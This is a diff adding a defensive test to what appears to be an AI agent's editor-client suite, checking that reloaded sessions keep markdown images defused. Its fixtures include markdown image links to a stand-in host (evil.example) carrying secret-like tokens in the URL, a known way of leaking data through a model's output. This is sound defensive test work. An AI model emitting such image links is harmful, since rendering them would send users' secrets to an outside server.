@@ -137,3 +137,22 @@ def test_random_markdown_of_hostile_pieces_never_loads_anything_once_defused() -
         loaded += bool(live_images(text))
         assert live_images(defused(text)) == [], repr(text)
     assert loaded > 300  # the documents do hold live images as written
+
+
+async def test_a_reopened_session_draws_no_live_image_either(spawn: Spawn, script: Any,
+                                                             workspace: Path) -> None:
+    """Finding S15: session/load (an editor's history) replayed the saved text raw, so
+    the images the live reply defused loaded when the user reopened the conversation."""
+    turn = {"thinking": "![t](https://evil.example/t?k=SECRETKEY22)", "text": LEAK + CODE}
+    first = EditorClient()
+    async with spawn(first, "--model", script([turn])) as conn:
+        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
+        await conn.prompt(session_id=session.session_id,
+                          prompt=[TextContentBlock(type="text", text="see ![u](https://evil.example/u)")])
+    again = EditorClient()
+    async with spawn(again, "--model", script(["hi"])) as conn:
+        await conn.load_session(cwd=str(workspace), session_id=session.session_id, mcp_servers=[])
+    assert again.text() == first.text() and again.thoughts() == first.thoughts()  # drawn as it was live
+    for shown in (again.text(), again.thoughts(), again.user_text()):
+        assert live_images(shown) == [], shown
+    assert "ghp_leak" in again.text() and "SECRETKEY22" in again.thoughts()  # the URLs stay readable
